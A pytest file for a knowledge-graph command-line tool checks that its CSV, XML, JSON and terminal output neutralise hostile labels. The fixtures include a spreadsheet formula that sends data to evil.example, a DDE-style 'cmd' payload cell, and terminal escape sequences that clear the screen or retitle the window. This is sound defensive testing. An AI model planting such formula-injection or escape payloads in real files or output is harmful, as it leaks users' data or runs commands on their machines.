"""What kg writes is safe for its reader: no CSV cell a spreadsheet runs as a formula, no escape sequence
that reaches the terminal, no character that makes GEXF or GraphML invalid XML. The seeds' graph with
hostile labels (a formula, terminal escapes, XML-illegal and C1 control characters) goes through the
real CLI."""

from __future__ import annotations

import contextlib
import csv
import http.server
import json
import threading
import xml.etree.ElementTree as ET
from pathlib import Path

import networkx as nx
import pytest
from click.testing import CliRunner
from rdflib import Graph, Literal, URIRef
from rdflib.namespace import SKOS

from kg.cli import main
from kg.text.safetext import csv_cell, terminal_text, xml_text
from tests.helpers import SEEDS

WANG = URIRef("https://w3id.org/kg-jilin/id/person/wang-zilian")
FORMULA = '=HYPERLINK("http://evil.example/?leak","Wang")'
ESCAPES = "\x1b[2J\x1b]0;pwned\x07\x9b31m"  # clear screen, set the window title, an 8-bit CSI
LABEL_EN = FORMULA + ESCAPES + " Zilian"
LABEL_ZH = "王子联\x01\x0b"
JSON = "application/sparql-results+json"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    """The seeds' graph with Wang Zilian's English and Chinese labels made hostile (his Russian one kept)."""
    out = tmp_path_factory.mktemp("hygiene")
    result = CliRunner().invoke(main, ["build", str(SEEDS), "--out", str(out), "--no-validate", "--no-maps"])
    assert result.exit_code == 0, result.output
    g = Graph().parse(out / "graph.ttl", format="turtle")
    for label in list(g.objects(WANG, SKOS.prefLabel)):
        if label.language in ("en", "zh"):
            g.remove((WANG, SKOS.prefLabel, label))
    g.add((WANG, SKOS.prefLabel, Literal(LABEL_EN, lang="en")))
    g.add((WANG, SKOS.prefLabel, Literal(LABEL_ZH, lang="zh")))
    path = out / "hostile.ttl"
    g.serialize(path, format="turtle")
    return path


def kg(*args) -> str:
    """What `kg ARGS` writes to stdout (notes on stderr, such as which way the graph is read, apart)."""
    result = CliRunner().invoke(main, [str(a) for a in args])
    assert result.exit_code == 0, result.output
    return result.stdout


# -- CSV ------------------------------------------------------------------------------------------------

def test_csv_cells_that_look_like_formulas_are_quoted():
    for cell in ("=1+2", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-", "--x"):
        assert csv_cell(cell) == "'" + cell
    for cell in ("Wang Zilian", "-3.5", "+1", "-1e5", "2024-01-01", "", "a=b", 7, None):
        assert csv_cell(cell) == cell


def test_exported_csv_holds_no_formula(hostile, tmp_path):
    """A label starting with = was a live formula in nodes.csv (a spreadsheet ran HYPERLINK)."""
    kg("export", "--graph", hostile, "--format", "csv", "-o", tmp_path / "csv")
    with (tmp_path / "csv" / "nodes.csv").open(encoding="utf-8", newline="") as fh:
        nodes = {row["id"]: row for row in csv.DictReader(fh)}
    assert nodes[str(WANG)]["label_en"] == "'" + LABEL_EN
    with (tmp_path / "csv" / "edges.csv").open(encoding="utf-8", newline="") as fh:
        cells = [v for row in csv.DictReader(fh) for v in row.values()] + [v for n in nodes.values() for v in n.values()]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_who_met_and_query_csv_hold_no_formula(hostile):
    rows = list(csv.DictReader(kg("who-met", "Ван Цзылянь", "--graph", hostile, "--format", "csv").splitlines()))
    assert rows and all(r["a"] == "'" + terminal_text(LABEL_EN) for r in rows)
    out = kg("query", f'SELECT ?l WHERE {{ <{WANG}> skos:prefLabel ?l FILTER(lang(?l) = "en") }}', "--graph", hostile,
             "--format", "csv")
    assert out.splitlines()[1] == '"\'' + terminal_text(LABEL_EN).replace('"', '""') + '"'


# -- XML ------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("fmt", ["gexf", "graphml"])
def test_a_control_character_in_a_label_leaves_the_xml_valid(hostile, tmp_path, fmt):
    """One control character made the whole GEXF/GraphML file unreadable (not well-formed XML)."""
    path = tmp_path / f"g.{fmt}"
    kg("export", "--graph", hostile, "--format", fmt, "-o", path)
    ET.parse(path)  # a strict XML parser
    g = nx.read_gexf(path) if fmt == "gexf" else nx.read_graphml(path)
    wang = g.nodes[str(WANG)]
    assert wang["label_zh"] == "王子联"
    assert wang["label_en"] == FORMULA + "[2J]0;pwned\x9b31m Zilian"  # legal in XML 1.0: C1 characters
    assert wang["label_ru"] == "Ван Цзылянь"


def test_xml_text_keeps_what_xml_allows():
    assert xml_text("a\tb\nc\rd\x00\x08\x0b\x0c\x1f\ud800\ufffe\uffffé\U0001f600") == "a\tb\nc\rdé\U0001f600"


# -- the terminal ------------------------------------------------------------------------------------------

def test_terminal_text_escapes_what_a_terminal_acts_on():
    assert terminal_text("a\tb\nc") == "a\tb\nc"
    assert terminal_text("\x1b[31mred\x07\r\x7f\x85\u202e\ud800") == "\\u001b[31mred\\u0007\\u000d\\u007f\\u0085\\u202e\\ud800"
    assert terminal_text("王子联 Ван «ok»") == "王子联 Ван «ok»"


@pytest.mark.parametrize("args", [
    ["who-met", "Ван Цзылянь"], ["who-met", "--all"], ["query", "people"], ["path", "Ван Цзылянь", "李炜姝"],
    ["who-met", "Ван Цзылянь", "--format", "csv"],
], ids=["who-met", "who-met-all", "query", "path", "csv"])
def test_no_escape_sequence_reaches_the_terminal(hostile, args):
    """Labels from articles were printed raw: ESC [2J cleared the screen, OSC 0 retitled the window."""
    out = kg(*args, "--graph", hostile)
    assert "pwned" in out and "\\u001b]0;pwned\\u0007" in out
    assert not any(c in out for c in "\x1b\x07\x9b\x01\x0b")


@pytest.mark.parametrize("fmt", ["json", "ttl"])
def test_json_and_turtle_answers_stay_valid_and_mean_the_same(hostile, fmt):
    """The escapes are JSON's and Turtle's own: what a program reads is the label as it is in the graph."""
    if fmt == "json":
        out = kg("query", f"SELECT ?l WHERE {{ <{WANG}> skos:prefLabel ?l }}", "--graph", hostile, "--format", "json")
        labels = {b["l"]["value"] for b in json.loads(out)["results"]["bindings"]}
    else:
        out = kg("query", f"CONSTRUCT {{ <{WANG}> skos:prefLabel ?l }} WHERE {{ <{WANG}> skos:prefLabel ?l }}",
                 "--graph", hostile, "--format", "ttl")
        labels = {str(o) for o in Graph().parse(data=out, format="turtle").objects()}
    assert not any(c in out for c in "\x1b\x07\x9b\x01\x0b")
    assert {LABEL_EN, LABEL_ZH} <= labels


def test_file_names_with_escapes_are_printed_escaped(tmp_path):
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "a\x1b]0;pwned\x07.txt").write_text("Mayor visits FAW\n2022-01-17\nThe mayor visited FAW.", encoding="utf-8")
    (corpus / "b\x1b[31m.txt").write_bytes(b"%PDF-1.7 not text")
    out = CliRunner().invoke(main, ["build", str(corpus), "--out", str(tmp_path / "o"), "--no-maps"]).output
    assert "a\\u001b]0;pwned\\u0007.txt" in out and "b\\u001b[31m.txt: binary file" in out
    assert "\x1b" not in out and "\x07" not in out


@contextlib.contextmanager
def endpoint(status: int, ctype: str, body: bytes):
    """A local HTTP server in a thread answering every POST with `status`, `ctype` and `body`; its URL.
    ASK (the probe kg sends first) gets `true`."""

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_POST(self):  # noqa: N802
            asked = self.rfile.read(int(self.headers["Content-Length"]))
            answer = (200, JSON, b'{"boolean": true}') if asked.startswith(b"query=ASK") else (status, ctype, body)
            self.send_response(answer[0])
            self.send_header("Content-Type", answer[1])
            self.send_header("Content-Length", str(len(answer[2])))
            self.end_headers()
            self.wfile.write(answer[2])

        def log_message(self, *args):
            pass

    server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_port}/query"
    finally:
        server.shutdown()
        server.server_close()


def test_a_server_error_is_printed_escaped():
    with endpoint(500, "text/plain", b"\x1b]0;pwned\x07\x1b[2J oops") as url:
        result = CliRunner().invoke(main, ["query", "SELECT * WHERE { ?s ?p ?o }", "--endpoint", url])
    assert result.exit_code == 1 and "HTTP 500" in result.output
    assert "\\u001b]0;pwned\\u0007\\u001b[2J oops" in result.output and "\x1b" not in result.output


def test_library_warnings_about_an_answer_are_one_escaped_line():
    """rdflib logged a traceback, and an IRI from the server raw, for terms it finds odd."""
    row = {"n": {"type": "literal", "value": "\x1b[2Jten", "datatype": "http://www.w3.org/2001/XMLSchema#integer"},
           "i": {"type": "uri", "value": "http://e/a b\x1b]0;pwned\x07"}}
    answer = json.dumps({"head": {"vars": ["n", "i"]}, "results": {"bindings": [row]}}).encode()
    with endpoint(200, JSON, answer) as url:
        result = CliRunner().invoke(main, ["query", "SELECT * WHERE { ?s ?p ?o }", "--endpoint", url])
    assert result.exit_code == 0, result.output
    assert "Traceback" not in result.output and "\x1b" not in result.output and "\x07" not in result.output
    assert "warning: http://e/a b\\u001b]0;pwned\\u0007 does not look like a valid URI" in result.output


@pytest.mark.parametrize("value", ["inf", "nan", "-1", "0"])
@pytest.mark.parametrize("args", [["query", "people"], ["who-met", "x"], ["serve"], ["build", "--doc-timeout"]],
                         ids=["query", "who-met", "serve", "build"])
def test_a_timeout_that_is_not_a_positive_number_is_a_usage_error(args, value, tmp_path):
    """--timeout inf gave a traceback in kg push, --doc-timeout nan was taken; now every one is refused."""
    option = [] if args[-1] == "--doc-timeout" else ["--timeout"]
    result = CliRunner().invoke(main, [*args, *option, value, "--graph" if args[0] != "build" else "--out",
                                       str(tmp_path / "nothing")])
    assert result.exit_code == 2 and "Invalid value for" in result.output and "timeout" in result.output, result.output


@pytest.mark.parametrize("args", [
    ["query", "SELECT * WHERE { BIND(\"\udcff\" AS ?x) }"], ["query", 'SELECT * WHERE { BIND("\\uD800" AS ?x) }'],
    ["query", "posts-of", "--param", "person=Wang\udcff"], ["query", "people", "--param", "\udcff=1"],
    ["query", "/tmp/q\udcff.rq"], ["who-met", "Wang\udcff"], ["path", "Wang\udcff", "李炜姝"],
    ["query", "SELECT ?x WHERE { BIND(" + "(" * 8000 + "1" + ")" * 8000 + " AS ?x) }"],
], ids=["query", "escape", "param", "param-name", "file", "who-met", "path", "parentheses"])
def test_lone_surrogates_and_deep_parentheses_are_one_line_errors(hostile, args):
    """A lone surrogate is what an undecodable byte of the command line becomes; deep parentheses crashed
    the engine. Both give a short message, never a traceback."""
    result = CliRunner().invoke(main, [*args, "--graph", str(hostile)])
    assert result.exit_code == 1 and isinstance(result.exception, SystemExit), repr(result.exception)
    lines = result.output.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("Error: ") and "Traceback" not in result.output, result.output
